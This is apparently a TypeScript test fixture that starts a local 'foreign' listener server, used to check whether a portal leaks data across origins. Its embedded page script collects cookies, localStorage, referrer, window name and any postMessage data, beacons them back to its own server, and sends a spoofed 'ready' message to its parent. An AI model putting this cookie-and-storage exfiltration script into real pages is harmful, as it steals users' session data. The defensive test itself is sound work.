import { startOther } from '../upstream.ts'

export interface Listener {
  /** By a name that is not the portal's: cookies know hosts, no ports. */
  origin: string
  /** Everything that anybody has sent here: addresses, headers, bodies. */
  heard: string[]
  stop(): Promise<void>
}

/** Reports to the page's own server what the page can read of its opener. */
const PAGE = `<!doctype html><title>Foreign</title><h1>Foreign page</h1><script>
const tell = (what) => navigator.sendBeacon('/told', JSON.stringify(what))
const keep = (what) => { try { return JSON.stringify(what()) } catch { return '' } }
tell({ href: location.href, referrer: document.referrer, name: name, cookie: document.cookie, local: keep(() => localStorage) })
addEventListener('message', ({ data }) => tell({ message: keep(() => data) }))
parent.postMessage({ v: 1, type: 'ready', data: { sdk: 'x' } }, '*')
</script>`

/** A page of somebody else that writes down whatever it is sent. */
export async function startListener(name: string): Promise<Listener> {
  const heard: string[] = []
  const { port, stop } = await startOther((request, response) => {
    let body = ''
    request.on('data', (chunk) => (body += String(chunk)))
    request.on('end', () => heard.push(JSON.stringify([request.url, request.rawHeaders, body])))
    const isScript = request.url?.endsWith('.js')
    response.writeHead(200, { 'content-type': isScript ? 'text/javascript' : 'text/html; charset=utf-8' })
    response.end(isScript ? 'document.body.append("widget")' : PAGE)
  })
  return { origin: `http://${name}.localhost:${port}`, heard, stop }
}
